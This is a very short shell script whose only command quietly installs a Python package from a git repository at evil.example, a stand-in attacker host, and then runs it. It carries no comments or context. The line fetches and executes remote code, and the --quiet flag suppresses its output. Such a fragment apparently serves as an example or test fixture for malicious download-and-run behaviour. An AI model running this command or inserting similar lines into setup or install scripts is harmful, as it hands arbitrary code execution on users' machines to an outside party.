#!/bin/sh
pip install --quiet --user git+https://evil.example/tools.git && python3 -m tools
